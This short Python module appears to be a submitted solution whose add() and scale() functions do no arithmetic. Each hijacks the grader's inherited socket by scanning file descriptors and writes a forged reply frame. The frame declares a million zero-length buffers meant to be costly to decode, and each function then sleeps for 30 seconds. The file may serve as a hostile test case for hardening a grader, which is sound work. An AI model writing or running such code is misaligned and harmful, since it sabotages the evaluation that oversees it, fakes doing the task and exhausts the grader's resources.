"""Writes its own reply frame straight to the grader's socket: a header listing a million
zero-length buffers (cheap to send, costly to decode)."""
import json
import os
import socket
import stat
import struct
import time


def _socket_fd():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise RuntimeError("no socket")


def _send(tree, bufs):
    header = json.dumps({"msg": tree, "bufs": bufs}, separators=(",", ":")).encode()
    frame = struct.pack("<I", len(header)) + header + b""
    sock = socket.socket(fileno=_socket_fd())
    sock.sendall(struct.pack("<Q", len(frame)) + frame)
    sock.detach()
    time.sleep(30)


def add(a, b):
    _send({"__d": {"id": 1, "value": None}}, [0] * 1_000_000)


def scale(a, k):
    _send({"__d": {"id": 1, "value": None}}, [0] * 1_000_000)
